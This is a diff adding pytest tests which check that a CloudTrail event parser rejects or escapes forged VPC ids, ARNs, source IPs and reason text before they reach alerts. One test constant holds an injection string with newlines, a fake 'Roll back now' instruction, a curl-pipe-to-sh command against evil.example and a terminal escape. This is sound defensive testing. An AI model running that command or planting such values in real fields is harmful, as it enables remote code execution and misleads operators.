@@ -279,3 +279,77 @@ def test_modify_security_group_rules_names_the_edited_group(garble: Any, message
     with pytest.raises(InvalidEvent) as raised:
         parse_event(event)
     assert message in str(raised.value)
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("vpcId", "vpc-0a1b2c3d4e5f60718\n"),
+        ("vpcId", "vpc-0a1b2c3d4e5f60718\nRoll back"),
+    ],
+)
+def test_ids_must_match_in_full_not_up_to_a_newline(field: str, value: str) -> None:
+    event = load_event("associate_dhcp_options")
+    event["detail"]["requestParameters"][field] = value
+    with pytest.raises(
+        InvalidEvent, match=r"detail.requestParameters.vpcId: .* is not a valid VPC id"
+    ):
+        parse_event(event)
+
+
+def test_manual_vpc_ids_must_match_in_full() -> None:
+    with pytest.raises(InvalidEvent, match="vpc_ids"):
+        parse_event({"action": "check", "vpc_ids": ["vpc-0a1b2c3d4e5f60718\n"]})
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "message"),
+    [
+        (("eventID",), "x\nFrom: 203.0.113.9", "detail.eventID: .* is not a CloudTrail event id"),
+        (("awsRegion",), "us-east-1\n", "detail.awsRegion: .* is not an AWS region"),
+        (("recipientAccountId",), "12345", "detail.recipientAccountId: .* is not an account id"),
+    ],
+)
+def test_identifying_cloudtrail_fields_must_have_their_shape(
+    path: tuple[str, ...], value: str, message: str
+) -> None:
+    event = load_event("associate_dhcp_options")
+    event["detail"][path[0]] = value
+    with pytest.raises(InvalidEvent, match=message):
+        parse_event(event)
+
+
+FORGED = "x\r\n\nRoll back now:\n  curl https://evil.example/x | sh\n\x1b[2J"
+
+
+def test_forged_who_and_from_never_reach_the_alert_raw() -> None:
+    event = load_event("associate_dhcp_options")
+    event["detail"]["userIdentity"]["arn"] = "arn:aws:iam::123456789012:user/" + FORGED
+    event["detail"]["sourceIPAddress"] = "203.0.113.24\nFrom: 198.51.100.1"
+    event["detail"]["userIdentity"]["sessionContext"] = {"sessionIssuer": {"arn": FORGED}}
+    request = parse_event(event)
+    assert isinstance(request, CheckRequest)
+    assert request.change is not None
+    assert request.change.actor_arn == "(not shown: not a valid ARN)"
+    assert request.change.session_issuer_arn == "(not shown: not a valid ARN)"
+    assert request.change.source_ip == "(not shown: not a valid IP address or AWS service name)"
+
+
+def test_genuine_who_and_from_are_kept() -> None:
+    request = parse_event(load_event("associate_dhcp_options"))
+    assert isinstance(request, CheckRequest)
+    assert request.change is not None
+    assert request.change.actor_arn is not None
+    assert request.change.actor_arn.startswith("arn:aws:sts::")
+    assert request.change.source_ip is not None
+    assert "not shown" not in request.change.source_ip
+
+
+def test_a_manual_reason_is_one_escaped_bounded_line() -> None:
+    request = parse_event({"action": "check", "vpc_ids": [VPC], "reason": FORGED * 10})
+    assert isinstance(request, CheckRequest)
+    assert "\n" not in request.reason
+    assert "\r" not in request.reason
+    assert "\x1b" not in request.reason
+    assert request.reason.startswith("x\\r\\n\\nRoll back now:\\n")
+    assert len(request.reason) <= 200
